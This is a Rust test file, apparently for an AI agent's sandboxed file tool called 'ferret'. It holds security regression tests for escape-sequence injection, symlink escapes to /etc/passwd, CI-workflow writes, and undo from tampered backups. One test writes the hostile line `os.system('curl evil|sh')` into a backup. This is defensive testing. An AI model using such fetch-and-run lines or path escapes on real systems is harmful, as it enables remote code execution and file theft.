//! What the fourth attacker's pass of issue 25 (round 3) found, and the small ones the
//! passes before it left open: messages that told less than the truth or told it in a
//! way a hostile name could bend; confirm-listed names made by links; links moved to
//! where they lead out; ignore files and index contents shaped to cost memory; a byte
//! budget charged below what went on the wire.

use crate::util::{Ws, tempdir, write};
use ferret::config::{Config, Mode};
use ferret::{CallOptions, ErrorCode, Ferret, Session};
use serde_json::json;
use std::os::unix::fs::symlink;

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// `ferret config` quotes a hostile workspace `ferret.toml`'s parse error (which holds
/// the file's own lines) escaped, as the warning on stderr does: no escape sequence or
/// bell of the file's reaches the terminal through stdout, and no line of its forges one
/// of the report's.
#[test]
fn config_shows_a_hostile_workspace_file_escaped() {
    let ws = Ws::new();
    for text in [
        "deny = [\"a\n\x1b[31mEVIL\x07 = 3\n",
        "x = \"\u{202e}txt.exe\"\n[[[\n",
        "allow_write = true\r\nroots = [\"/\"]\r\n# WARNING: fake\n\x1b]0;title\x07",
    ] {
        write(&ws.root, "ferret.toml", text);
        let o = ws.cli(&["config"]);
        let out = stdout(&o);
        assert!(o.status.success(), "{}", stderr(&o));
        for bad in ['\x1b', '\x07', '\u{202e}', '\r'] {
            assert!(!out.contains(bad), "{bad:?} reached stdout: {out}");
        }
        // The refusal is one line of the report, whatever the file held.
        assert!(
            !out.lines().any(|l| l.starts_with("# WARNING: fake")),
            "{out}"
        );
        assert!(!out.contains("allow_write = true"), "{out}");
    }
}

/// `--set` takes a list as a config file writes it, or comma-separated; a list of
/// anything but strings is refused, naming what it got.
#[test]
fn set_takes_a_list_as_a_config_file_writes_it() {
    let ws = Ws::new();
    for v in [
        r#"allowed_extensions=["md", "rs"]"#,
        "allowed_extensions=md,rs",
        "allowed_extensions=[ 'md','rs' ]",
    ] {
        let o = ws.cli(&["--set", v, "config"]);
        assert!(o.status.success(), "{v}: {}", stderr(&o));
        assert!(
            stdout(&o).contains(r#"allowed_extensions = ["md","rs"]"#),
            "{v}: {}",
            stdout(&o)
        );
    }
    let o = ws.cli(&["--set", "allowed_extensions=[1]", "config"]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("expected strings"), "{}", stderr(&o));
    // And it is in force: a .txt is not served.
    write(&ws.root, "a.txt", "x");
    let o = ws.cli(&["--set", r#"allowed_extensions=["md"]"#, "read", "a.txt"]);
    assert!(!o.status.success(), "{}", stdout(&o));
}

/// Moving a file onto an existing directory says that, with the path that would move
/// it inside, also when the directory's name has no allowed extension (the extension
/// rule is about what a move makes, and it makes nothing there).
#[test]
fn a_move_onto_a_directory_says_so_whatever_the_extensions() {
    let ws = Ws::new();
    write(&ws.root, "a.md", "x");
    std::fs::create_dir_all(ws.root.join("docs")).unwrap();
    for extra in [&[][..], &["--set", "allowed_extensions=md"][..]] {
        let o = ws.person(&[extra, &["mv", "a.md", "docs"][..]].concat());
        let err = stderr(&o);
        assert!(!o.status.success());
        assert!(err.contains("ALREADY_EXISTS"), "{err}");
        assert!(err.contains("docs/a.md"), "{err}");
        assert_eq!(ws.read("a.md").as_deref(), Some("x"));
    }
    // A new name of another extension is still refused as such.
    let o = ws.person(&["--set", "allowed_extensions=md", "mv", "a.md", "docs/a.sh"]);
    assert!(!o.status.success());
    assert_eq!(ws.read("a.md").as_deref(), Some("x"));
}

/// A name in an error of move or file_delete ends where it visibly ends: one with a
/// space (or an odd character) is quoted, so the message cannot be read as naming
/// another file.
#[test]
fn names_in_move_and_delete_errors_are_quoted_when_spaced() {
    let ws = Ws::new();
    write(&ws.root, "a b.md", "1");
    write(&ws.root, "c.md", "2");
    let cases: [&[&str]; 4] = [
        &["mv", "c.md", "a b.md"],
        &["mv", "no such.md", "d.md"],
        &["rm", "no such.md"],
        &["mv", "a b.md", "./a b.md"],
    ];
    for args in cases {
        let o = ws.person(args);
        let err = stderr(&o);
        assert!(!o.status.success(), "{args:?}");
        let name = if args[1] == "no such.md" {
            "no such.md"
        } else {
            "a b.md"
        };
        assert!(err.contains(&format!("\"{name}\"")), "{args:?}: {err}");
    }
    assert_eq!(ws.read("a b.md").as_deref(), Some("1"));
    assert_eq!(ws.read("c.md").as_deref(), Some("2"));
}

/// A write through a dangling link inside the root creates the link's target, as a
/// shell's `>` does, and the result names the file it created, not the link.
#[test]
fn a_write_through_a_dangling_link_names_what_it_created() {
    let ws = Ws::new();
    symlink("made.txt", ws.root.join("link.txt")).unwrap();
    let o = ws.person(&["call", "write_file", r#"{"path":"link.txt","content":"x"}"#]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["path"], "made.txt", "{v}");
    assert_eq!(v["created"], true);
    assert_eq!(ws.read("made.txt").as_deref(), Some("x"));
    // A link leading outside is still refused, and nothing is made out there.
    let outside = ws.base.join("outside.txt");
    symlink(&outside, ws.root.join("out.txt")).unwrap();
    let o = ws.person(&["call", "write_file", r#"{"path":"out.txt","content":"x"}"#]);
    assert!(!o.status.success());
    assert!(stdout(&o).contains("PATH_ESCAPE"), "{}", stdout(&o));
    assert!(!outside.exists());
}

/// A link to itself: a denied one is named once (not `x (-> x)`); an allowed one says
/// it loops, with a hint that does not send the agent round to the same call.
#[test]
fn a_link_to_itself_is_named_once_and_its_hint_leads_somewhere() {
    let ws = Ws::new();
    symlink("private.md", ws.root.join("private.md")).unwrap();
    symlink("loop.md", ws.root.join("loop.md")).unwrap();
    let o = ws.cli(&["--set", "deny_extra=private.md", "read", "private.md"]);
    let err = stderr(&o);
    assert!(err.contains("DENIED_PATTERN"), "{err}");
    assert!(!err.contains("(->"), "{err}");
    for tool in ["read", "info"] {
        let o = ws.cli(&[tool, "loop.md"]);
        let err = stderr(&o);
        assert!(!o.status.success());
        assert!(err.contains("leads back to itself"), "{err}");
        assert!(!err.contains("get_file_info"), "{err}");
    }
}

/// A base64 read whose offset is past the end says so, with the size, as a text read
/// past the last line does.
#[test]
fn a_base64_read_past_the_end_says_so() {
    let ws = Ws::new();
    write(&ws.root, "h.bin", "hello");
    let o = ws.cli(&["read", "h.bin", "--base64", "--offset", "100"]);
    assert!(
        stdout(&o).contains("offset 100 is past the end; the file has 5 bytes"),
        "{}",
        stdout(&o)
    );
    let o = ws.cli(&["read", "h.bin", "--base64", "--offset", "2"]);
    assert!(stdout(&o).contains("bGxv"), "{}", stdout(&o));
    assert!(!stdout(&o).contains("past the end"));
}

/// `grep -U -c` counts matches as ripgrep's does: a run of matches that touch or share
/// lines is several, not one.
#[test]
fn a_multiline_count_counts_each_match() {
    let ws = Ws::new();
    write(
        &ws.root,
        "a.txt",
        "foo\nbar\nfoo\nbar\nxfoo\nbarfoo\nbar\nnone\n",
    );
    write(&ws.root, "b.txt", "foo\nbar\n");
    let o = ws.cli(&["grep", "-U", "-c", r"foo\nbar"]);
    let mut lines: Vec<_> = stdout(&o).lines().map(str::to_string).collect();
    lines.sort();
    assert_eq!(lines, ["a.txt:4", "b.txt:1"], "{}", stderr(&o));
    // Line by line, a count is of matching lines; as rg, one file searched is not named
    // unless asked (-H), and -I names none.
    let o = ws.cli(&["grep", "-c", "foo", "a.txt"]);
    assert_eq!(stdout(&o).trim(), "4");
    let o = ws.cli(&["grep", "-H", "-c", "foo", "a.txt"]);
    assert_eq!(stdout(&o).trim(), "a.txt:4");
    let o = ws.cli(&["grep", "foo", "b.txt"]);
    assert_eq!(stdout(&o), "1:foo\n");
    let o = ws.cli(&["grep", "-I", "-n", "bar", "."]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut got: Vec<_> = stdout(&o).lines().map(str::to_string).collect();
    got.sort();
    assert_eq!(got, ["2:bar", "2:bar", "4:bar", "6:barfoo", "7:bar"]);
    let o = ws.cli(&["grep", "-N", "barfoo", "a.txt"]);
    assert_eq!(stdout(&o), "barfoo\n");
}

/// A link at a name the confirm list holds as a directory (`.github/`, `.circleci/`)
/// asks as the directory would: made by a move (of a link to a directory, of a dangling
/// link), deleted, undone, and a write or a patch under it through the link. Nothing
/// changes unasked (the person's answer here is no: stdin is empty).
#[test]
fn a_link_at_a_confirm_listed_name_asks_like_the_directory() {
    let ws = Ws::new();
    std::fs::create_dir_all(ws.root.join("docs")).unwrap();
    symlink("docs", ws.root.join("dl")).unwrap();
    symlink("nowhere", ws.root.join("dang")).unwrap();
    write(&ws.root, "c.txt", "c");
    symlink("c.txt", ws.root.join("fl")).unwrap();
    for (src, dst) in [
        ("dl", ".github"),
        ("dang", ".circleci"),
        ("fl", ".github"),
        ("dl", ".GitHub"),
    ] {
        let args = json!({"source": src, "destination": dst}).to_string();
        let o = ws.person(&["call", "move", &args]);
        assert!(
            stdout(&o).contains("CONFIRMATION_REQUIRED"),
            "{src} -> {dst}: {}",
            stdout(&o)
        );
        assert!(ws.root.join(src).symlink_metadata().is_ok());
        assert!(ws.root.join(dst).symlink_metadata().is_err());
        // A dry run says it would ask.
        let args = json!({"source": src, "destination": dst, "dry_run": true}).to_string();
        let o = ws.person(&["call", "move", &args]);
        assert!(stdout(&o).contains("would_ask"), "{}", stdout(&o));
    }
    // A repository that ships the link: writing or patching under it, deleting it.
    symlink("docs", ws.root.join(".github")).unwrap();
    let before = crate::util::snapshot(&ws.root);
    for (tool, args) in [
        (
            "write_file",
            json!({"path": ".github/workflows/pwn.yml", "content": "on: push\n"}),
        ),
        (
            "apply_patch",
            json!({"patch": "*** Begin Patch\n*** Add File: .github/workflows/p.yml\n+x\n*** End Patch"}),
        ),
        ("file_delete", json!({"path": ".github"})),
    ] {
        let o = ws.person(&["call", tool, &args.to_string()]);
        assert!(
            stdout(&o).contains("CONFIRMATION_REQUIRED"),
            "{tool}: {}",
            stdout(&o)
        );
    }
    assert_eq!(crate::util::snapshot(&ws.root), before);
    assert!(ws.root.join(".github").symlink_metadata().is_ok());
}

/// An undo's receipt of a move names both ends as every receipt does: quoted when odd,
/// so a name with a line break or an escape cannot forge a line or reach the terminal.
#[test]
fn an_undone_moves_receipt_quotes_its_names() {
    let ws = Ws::new();
    let odd = "n\nFAKE LINE\x1b[31m.txt";
    write(&ws.root, odd, "x");
    // As ferret shows such a name, and takes it back.
    let quoted = r#""n\u{a}FAKE LINE\u{1b}[31m.txt""#;
    let args = json!({"source": quoted, "destination": "z.txt"}).to_string();
    let o = ws.person(&["call", "move", &args]);
    assert!(o.status.success(), "{}", stdout(&o));
    let o = ws.person(&["undo"]);
    let out = stdout(&o);
    assert!(o.status.success(), "{out} {}", stderr(&o));
    assert!(!out.contains('\x1b'), "{out}");
    assert!(!out.lines().any(|l| l.starts_with("FAKE LINE")), "{out}");
    assert!(ws.root.join(odd).exists());
}

/// Moving a relative link to where its words lead out of the workspace is refused (the
/// person's own tools would follow it); to the same depth, or deeper, it moves.
#[test]
fn a_link_is_not_moved_to_where_it_would_lead_outside() {
    let ws = Ws::new();
    std::fs::create_dir_all(ws.root.join("a/b/c")).unwrap();
    symlink("../../../etc/passwd", ws.root.join("a/b/c/l")).unwrap();
    for dst in ["notes.txt", "a/n.txt", "a/b/n.txt"] {
        let args = json!({"source": "a/b/c/l", "destination": dst}).to_string();
        let o = ws.person(&["call", "move", &args]);
        assert!(stdout(&o).contains("PATH_ESCAPE"), "{dst}: {}", stdout(&o));
        assert!(ws.root.join(dst).symlink_metadata().is_err());
    }
    let o = ws.person(&[
        "call",
        "move",
        r#"{"source":"a/b/c/l","destination":"a/b/d/deeper/l"}"#,
    ]);
    assert!(o.status.success(), "{}", stdout(&o));
    assert_eq!(
        std::fs::read_link(ws.root.join("a/b/d/deeper/l")).unwrap(),
        std::path::Path::new("../../../etc/passwd")
    );
}

/// An ignore file of braces of plain names (each alternative a branch of the matcher,
/// though no wildcard is written) is weighed by its alternatives: one of a thousand
/// names a line is not used, and the result and stderr say so.
#[test]
fn an_ignore_file_of_big_braces_is_not_used_and_is_named() {
    let (_t, root) = tempdir();
    let names: Vec<String> = (0..1000).map(|i| format!("qqq{i}")).collect();
    let line = format!("{{{}}}\n", names.join(","));
    write(
        &root,
        "d/.gitignore",
        format!("{}plain.txt\n", line.repeat(40)),
    );
    write(&root, "d/plain.txt", "NEEDLE\n");
    write(&root, "d/qqq5", "NEEDLE\n");
    let f = crate::util::ferret(&root, false, None);
    let (v, text) = crate::util::ok(&f, "grep", json!({"pattern": "NEEDLE"}));
    let warnings = v["warnings"].to_string();
    assert!(warnings.contains("d/.gitignore"), "{v}");
    assert!(warnings.contains("not used"), "{v}");
    assert!(text.contains("d/.gitignore"), "{text}");
    // A brace of a few names is used as before.
    write(&root, "e/.gitignore", "{x1,x2,x3}\n");
    write(&root, "e/x2", "NEEDLE\n");
    write(&root, "e/y", "NEEDLE\n");
    let (v, _) = crate::util::ok(&f, "glob", json!({"pattern": "e/*"}));
    let paths = v.to_string();
    assert!(paths.contains("e/y") && !paths.contains("e/x2"), "{v}");
}

/// Text too dense to index (random characters) is listed but not indexed: every search
/// reads it, so a match in it is still found, and `ferret index` says how many files it
/// left to be read; ordinary text is indexed.
#[test]
fn dense_text_is_read_by_every_search_not_indexed() {
    let ws = Ws::new();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for i in 0..3 {
        let mut s = String::with_capacity(20_100);
        for _ in 0..20_000 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            s.push(char::from(33 + (x % 94) as u8));
        }
        s.push_str(&format!("\nNEEDLE{i}\n"));
        write(&ws.root, &format!("r{i}.txt"), s);
    }
    write(
        &ws.root,
        "code.c",
        "int main(void) { return NEEDLE0; }\n".repeat(200),
    );
    // Contents changed in the last 100 ms are indexed but not stored (racy stamps).
    std::thread::sleep(std::time::Duration::from_millis(300));
    let o = ws.cli(&["index"]);
    let out = stdout(&o);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(out.contains(": 1 files"), "{out}");
    assert!(
        out.contains("3 more files are read by every search"),
        "{out}"
    );
    let o = ws.cli(&["call", "grep", r#"{"pattern":"NEEDLE2"}"#]);
    assert!(stdout(&o).contains("r2.txt"), "{}", stdout(&o));
    let o = ws.cli(&["call", "grep", r#"{"pattern":"NEEDLE0"}"#]);
    assert!(
        stdout(&o).contains("r0.txt") && stdout(&o).contains("code.c"),
        "{}",
        stdout(&o)
    );
}

/// The round's byte budget is charged what goes on the wire: a line of escape
/// characters is six bytes a character in JSON, and is charged so.
#[test]
fn the_byte_budget_charges_escaped_characters_as_sent() {
    let (_t, root) = tempdir();
    write(
        &root,
        "a.txt",
        format!("x{}\n", "\x1b".repeat(390)).repeat(100),
    );
    write(
        &root,
        "b.txt",
        format!("x{}\n", "y".repeat(390)).repeat(100),
    );
    let mut c = Config::defaults(Mode::Server);
    c.roots = vec![root.clone()];
    let f = Ferret::new(c).unwrap();
    let charged = |path: &str, session: &str| {
        let s = Session::new(session, "t");
        let out = f
            .call(
                &s,
                "read_file",
                json!({"path": path}),
                CallOptions::default(),
            )
            .unwrap();
        let wire = serde_json::to_string(&out.text).unwrap().len() as u64;
        (f.limiter().usage(session).bytes, wire)
    };
    let (esc, esc_wire) = charged("a.txt", "esc");
    let (plain, _) = charged("b.txt", "plain");
    assert!(esc >= esc_wire - 2, "charged {esc}, on the wire {esc_wire}");
    assert!(esc > 4 * plain, "escapes {esc}, plain {plain}");
    let _ = ErrorCode::RoundLimitExceeded;
}

/// With a root that holds HOME, ferret's config, state and the trash are not the agent's:
/// the user's config cannot be written (it would set every other run's rules), and
/// nothing new is made on the way to them (a link moved to `.local` or `.local/state`
/// would send the trash or the backups wherever it leads).
#[test]
fn a_root_holding_home_keeps_ferrets_own_places_and_the_way_to_them() {
    let (_t, base) = tempdir();
    let home = base.join("home");
    std::fs::create_dir_all(home.join("proj")).unwrap();
    std::fs::create_dir_all(base.join("elsewhere")).unwrap();
    write(&home, "proj/a.txt", "precious");
    symlink(base.join("elsewhere"), home.join("proj/t")).unwrap();
    let run = |args: &[&str]| {
        crate::util::bin()
            .env_remove("XDG_STATE_HOME")
            .env("HOME", &home)
            .arg("--root")
            .arg(&home)
            .arg("--state-dir")
            .arg(base.join("state"))
            .arg("--allow-write")
            .args(args)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    let o = run(&[
        "call",
        "write_file",
        r#"{"path":".config/ferret/config.toml","content":"deny = []\n"}"#,
    ]);
    assert!(stdout(&o).contains("DENIED_PATTERN"), "{}", stdout(&o));
    assert!(!home.join(".config/ferret").exists());
    for dst in [".local", ".config", ".local/share"] {
        let args = json!({"source": "proj/t", "destination": dst}).to_string();
        let o = run(&["call", "move", &args]);
        assert!(
            stdout(&o).contains("DENIED_PATTERN"),
            "{dst}: {}",
            stdout(&o)
        );
        std::fs::create_dir_all(home.join(".local")).unwrap();
    }
    std::fs::create_dir_all(home.join(".local")).unwrap();
    let o = run(&[
        "call",
        "move",
        r#"{"source":"proj/t","destination":".local/state"}"#,
    ]);
    assert!(stdout(&o).contains("DENIED_PATTERN"), "{}", stdout(&o));
    // A delete then goes to the real home trash, never to where a link leads.
    let o = run(&["rm", "proj/a.txt"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        std::fs::read_dir(base.join("elsewhere")).unwrap().count(),
        0
    );
}

/// A directory holding a link or a file named as a directory rule of the confirm list
/// (`.github`) asks before it is deleted or moved, as one holding the directory does.
#[test]
fn a_directory_holding_a_link_named_github_asks() {
    let ws = Ws::new();
    std::fs::create_dir_all(ws.root.join("d1/x")).unwrap();
    symlink("nowhere", ws.root.join("d1/x/.github")).unwrap();
    std::fs::create_dir_all(ws.root.join("d2")).unwrap();
    write(&ws.root, "d2/.CircleCI", "f");
    for args in [
        &["rm", "d1"][..],
        &["mv", "d1", "e1"][..],
        &["rm", "d2"][..],
    ] {
        let o = ws.person(args);
        assert!(
            stderr(&o).contains("CONFIRMATION_REQUIRED"),
            "{args:?}: {}",
            stderr(&o)
        );
    }
    assert!(ws.root.join("d1/x/.github").symlink_metadata().is_ok());
    assert!(ws.root.join("d2/.CircleCI").exists());
}

/// Undo restores a backup only if it still holds what the change replaced: one
/// rewritten since is refused, and the file stays as it is.
#[test]
fn undo_refuses_a_backup_changed_since_it_was_made() {
    let ws = Ws::new();
    write(&ws.root, "s.py", "import os\n");
    let o = ws.person(&["edit", "s.py", "--old", "import os", "--new", "import sys"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let mut backups = Vec::new();
    let mut stack = vec![ws.state.clone()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.components().any(|c| c.as_os_str() == "backups") {
                backups.push(p);
            }
        }
    }
    assert_eq!(backups.len(), 1, "{backups:?}");
    std::fs::write(&backups[0], "os.system('curl evil|sh')\n").unwrap();
    let o = ws.person(&["undo"]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("CONFLICT"), "{}", stderr(&o));
    assert_eq!(ws.read("s.py").as_deref(), Some("import sys\n"));
}

/// A link whose `..` comes after a name climbs from wherever that name leads: words
/// cannot tell where it ends up elsewhere, so it moves only within its own folder.
#[test]
fn a_link_with_a_dot_dot_after_a_name_moves_only_within_its_folder() {
    let ws = Ws::new();
    std::fs::create_dir_all(ws.root.join("src")).unwrap();
    std::fs::create_dir_all(ws.root.join("inc")).unwrap();
    std::fs::create_dir_all(ws.root.join("sub/inc/foo")).unwrap();
    symlink("../src", ws.root.join("inc/foo")).unwrap();
    symlink("inc/foo/../../x", ws.root.join("sub/l")).unwrap();
    let o = ws.person(&["call", "move", r#"{"source":"sub/l","destination":"l"}"#]);
    assert!(stdout(&o).contains("PATH_ESCAPE"), "{}", stdout(&o));
    assert!(ws.root.join("l").symlink_metadata().is_err());
    let o = ws.person(&[
        "call",
        "move",
        r#"{"source":"sub/l","destination":"sub/l2"}"#,
    ]);
    assert!(o.status.success(), "{}", stdout(&o));
}

/// An answer from the server's live index says what the walks that made its list
/// warned of (an ignore file not used), as a scan's answer does: the engine does not
/// decide whether the agent learns that files it would hide may be listed.
#[test]
fn answers_from_the_live_index_keep_the_walks_warnings() {
    let ws = Ws::new();
    let lines: String = (0..100)
        .map(|n| format!("z{n}{}\n", "[!a]".repeat(50)))
        .collect();
    write(&ws.root, "sub/.gitignore", lines);
    write(&ws.root, "sub/a.txt", "needle\n");
    let mut cmd = crate::util::bin();
    cmd.current_dir(&ws.base)
        .arg("--root")
        .arg(&ws.root)
        .arg("--state-dir")
        .arg(&ws.state)
        .arg("serve");
    let mut s = crate::util::StdioServer::spawn(cmd, "lows_r6");
    let mut engines = Vec::new();
    for _ in 0..40 {
        for (tool, args) in [
            ("glob", json!({"pattern": "**/*.txt"})),
            ("grep", json!({"pattern": "needle"})),
        ] {
            let r = s.call(tool, &args);
            let sc = &r["structuredContent"];
            assert!(
                sc["warnings"].to_string().contains("sub/.gitignore"),
                "{tool} ({}): {r}",
                sc["engine"]
            );
            engines.push(sc["engine"].as_str().unwrap_or("").to_string());
        }
        if engines.iter().rev().take(2).all(|e| e == "index") {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    panic!("the index never answered: {engines:?}");
}

/// A file whose path is past the system's limit (4 096 bytes) is not passed over in
/// silence: grep and glob name it as not searched (read_file and the listing reach it).
#[test]
fn a_path_past_the_systems_limit_is_said_not_silently_missed() {
    let (_t, root) = tempdir();
    // Made one level at a time through handles: the whole path is too long to name.
    let mut dir = cap_std::fs::Dir::open_ambient_dir(&root, cap_std::ambient_authority()).unwrap();
    for i in 0..19 {
        let name = format!("E{i:02}").repeat(83);
        dir.create_dir(&name).unwrap();
        dir = dir.open_dir(&name).unwrap();
        dir.write(format!("needle{i:02}.txt"), "needle\n").unwrap();
    }
    let f = crate::util::ferret(&root, false, None);
    for (tool, args) in [
        ("grep", json!({"pattern": "needle", "output_mode": "count"})),
        ("glob", json!({"pattern": "**/needle*"})),
    ] {
        let (v, _) = crate::util::ok(&f, tool, args);
        // The component-walk resolver (FERRET_PORTABLE=1) opens one name at a time and
        // reaches every file; openat2 cannot name the deepest and must say so.
        let found = v["file_count"]
            .as_u64()
            .or_else(|| v["count"].as_u64())
            .unwrap_or(0);
        assert!(
            found == 19
                || v["warnings"]
                    .to_string()
                    .contains("longer than the system's limit"),
            "{tool}: {found} found, warnings {}",
            v["warnings"]
        );
    }
}

/// A workspace `ferret.toml` only narrows `ferret call`'s output budget (the server's):
/// a huge `max_output_chars` there does not lift it.
#[test]
fn a_workspace_file_does_not_lift_calls_output_budget() {
    let ws = Ws::new();
    let big: String = (0..20_000)
        .map(|i| format!("line {i} {}\n", "y".repeat(40)))
        .collect();
    write(&ws.root, "big.txt", big);
    write(&ws.root, "ferret.toml", "max_output_chars = 100000000\n");
    let o = ws.cli(&[
        "call",
        "--text",
        "read_file",
        r#"{"path":"big.txt","offset":1,"limit":20000}"#,
    ]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(o.stdout.len() < 100_000, "{} bytes", o.stdout.len());
}

/// A `*** Begin Patch` hunk's lines are whole lines: `-ROOT = False` does not change the
/// end of `ALLOW_ROOT = False` (nothing changes, and the miss says why); the same line
/// standing whole is changed. A structured edit's old_string may still be any part.
#[test]
fn a_patch_hunk_never_changes_part_of_a_line() {
    let ws = Ws::new();
    write(
        &ws.root,
        "settings.py",
        "ALLOW_ROOT = False\nDEBUG = False\n",
    );
    let patch = |old: &str, new: &str| {
        json!({"patch": format!(
            "*** Begin Patch\n*** Update File: settings.py\n@@\n-{old}\n+{new}\n*** End Patch"
        )})
        .to_string()
    };
    let o = ws.person(&["call", "apply_patch", &patch("ROOT = False", "ROOT = True")]);
    assert!(stdout(&o).contains("NO_MATCH"), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("parts of longer lines"),
        "{}",
        stdout(&o)
    );
    assert_eq!(
        ws.read("settings.py").as_deref(),
        Some("ALLOW_ROOT = False\nDEBUG = False\n")
    );
    let o = ws.person(&[
        "call",
        "apply_patch",
        &patch("DEBUG = False", "DEBUG = True"),
    ]);
    assert!(o.status.success(), "{}", stdout(&o));
    assert_eq!(
        ws.read("settings.py").as_deref(),
        Some("ALLOW_ROOT = False\nDEBUG = True\n")
    );
    let o = ws.person(&[
        "call",
        "apply_patch",
        r#"{"changes":[{"path":"settings.py","edits":[{"old_string":"ROOT = False","new_string":"ROOT = On"}]}]}"#,
    ]);
    assert!(o.status.success(), "{}", stdout(&o));
    assert_eq!(
        ws.read("settings.py").as_deref(),
        Some("ALLOW_ROOT = On\nDEBUG = True\n")
    );
}

/// A UTF-8 file with one stray byte is not taken for a legacy encoding: grep finds its
/// UTF-8 words (as rg does), and the decoding tools refuse it as not text rather than
/// show mojibake or write another encoding's bytes into it.
#[test]
fn a_utf8_file_with_a_stray_byte_is_not_read_as_a_legacy_encoding() {
    let ws = Ws::new();
    let mut bytes = "name = \"Müller\"\ngreeting = \"Grüße\"\n"
        .repeat(300)
        .into_bytes();
    bytes.extend_from_slice(b"# legacy byte \xa0 here\n");
    std::fs::write(ws.root.join("src.py"), &bytes).unwrap();
    let o = ws.cli(&["grep", "-c", "Müller", "src.py"]);
    assert_eq!(stdout(&o).trim(), "300", "{}", stderr(&o));
    let o = ws.person(&["edit", "src.py", "--old", "legacy byte", "--new", "note ü"]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("BINARY_FILE"), "{}", stderr(&o));
    assert_eq!(std::fs::read(ws.root.join("src.py")).unwrap(), bytes);
}
